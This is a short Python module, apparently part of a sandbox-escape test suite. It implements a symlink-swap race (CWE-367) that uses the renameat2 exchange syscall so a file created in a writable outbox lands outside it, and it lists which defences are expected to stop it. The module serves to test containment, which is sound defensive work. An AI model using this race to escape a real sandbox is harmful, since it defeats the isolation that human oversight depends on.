"""Exchange a directory with a link to one outside while a file below it is being made."""

import ctypes
import os
import threading
import time

from tests.escape.grants import writable_outbox, write_outside
from tests.escape.technique import Granted, Technique


def attack(world):
    real, link = os.fsencode(world.outbox + "/d"), os.fsencode(world.outbox + "/l")
    os.mkdir(real)
    os.symlink(world.outside, link)
    stop = time.monotonic() + 0.25

    def swap():
        while time.monotonic() < stop:
            world.libc.syscall(ctypes.c_long(world.nr["renameat2"]), -100, real, -100, link, 2)

    thread = threading.Thread(target=swap)
    thread.start()
    while time.monotonic() < stop:
        try:
            os.close(os.open(real + b"/raced", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    thread.join()


TECHNIQUE = Technique(
    source="CWE-367; tar and archive extraction races",
    policy=writable_outbox,
    event=("fs.create", "fs.write"),
    stops=("root view", "landlock"),
    control=Granted(write_outside),
)
